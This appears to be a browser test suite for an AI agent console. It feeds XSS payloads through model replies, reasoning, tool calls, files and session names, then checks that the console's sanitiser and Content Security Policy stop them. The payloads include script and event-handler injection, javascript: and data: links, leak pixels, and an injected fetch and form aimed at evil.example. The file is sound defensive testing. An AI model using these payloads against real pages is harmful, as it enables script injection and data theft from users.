import { test } from 'tap'
import { needsBrowser } from './browser.ts'
import { call, openConsole } from './console.ts'

const evil = [
  '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1"><iframe src="https://evil.example/f"></iframe>',
  '<svg onload="window.pwned = 1"><a href="javascript:window.pwned=1">svg</a></svg>',
  '[run](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:x) [page](https://evil.example/page)',
  '![track](https://evil.example/pixel.png?leak=1) ![inline](data:image/svg+xml,<svg/onload=window.pwned=1>)',
  '<style>@import url(https://evil.example/x.css); body { display: none }</style>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a><meta http-equiv="refresh" content="0;url=https://evil.example">'
].join('\n\n')

test('what a model or a file says neither runs nor leaks', needsBrowser, async (t) => {
  const { page, say, model, decision, allow, faults, foreign } = await openConsole(t, { session: 'Evil <img src=x onerror=window.pwned=1>', scripted: true })
  await model.script([
    { reasoning: evil, text: evil, tool_calls: [call('c1', 'write_file', { path: 'page.html', content: evil })] },
    { tool_calls: [call('c2', 'read_file', { path: 'page.html' })] },
    { text: evil }
  ])
  await say(evil)
  await decision.waitFor()
  await page.waitForTimeout(450) // armed
  await allow.click()
  await page.getByText('Done in').waitFor()
  for (const line of await page.locator('.call-line').all()) await line.click()
  await page.getByText('Reasoning').first().click()
  await page.waitForTimeout(300)
  t.equal(await page.evaluate("'pwned' in window"), false)
  t.strictSame(foreign, [])
  t.strictSame(faults, [], 'nothing even tried')
  const hrefs = await page.evaluate<string[]>("[...document.querySelectorAll('.talk a')].map((link) => link.getAttribute('href'))")
  t.ok(hrefs.length > 0 && hrefs.every((href) => href === 'https://evil.example/page'), JSON.stringify(hrefs))
  t.match(await page.locator('.talk a').first().getAttribute('rel'), /noopener noreferrer/)
  t.equal(await page.locator('.talk').locator('img, iframe, script, style, svg a').count(), 0)
})

const directives = ['img-src', 'frame-src', 'style-src-attr', 'script-src-attr', 'script-src-elem', 'connect-src', 'form-action']

/** Runs in the page, as somebody would who got in. */
const attack = `(async () => {
  const seen = []
  document.addEventListener('securitypolicyviolation', (event) => { seen.push(event.effectiveDirective) })
  const host = document.createElement('div')
  host.innerHTML = '<img src="https://evil.example/p.png"><iframe src="https://evil.example/"></iframe><b style="color:red" onclick="1">x</b><form action="https://evil.example"><button>f</button></form>'
  document.body.append(host)
  const script = document.createElement('script')
  script.textContent = 'window.pwned = 1'
  document.body.append(script)
  host.querySelector('b').click()
  host.querySelector('button').click()
  await fetch('https://evil.example/').catch(() => {})
  for (let i = 0; i < 100 && ${JSON.stringify(directives)}.some((directive) => !seen.includes(directive)); i++) await new Promise((resolve) => setTimeout(resolve, 50))
  return { seen, pwned: 'pwned' in window }
})()`

test('the policy stops what would get in all the same: scripts, styles, images, frames, requests', needsBrowser, async (t) => {
  const { page, left } = await openConsole(t, { session: 'Policy' })
  const { seen, pwned } = await page.evaluate<{ seen: string[], pwned: boolean }>(attack)
  t.equal(pwned, false)
  for (const directive of directives) t.ok(seen.includes(directive), directive)
  t.strictSame(left, [])
})
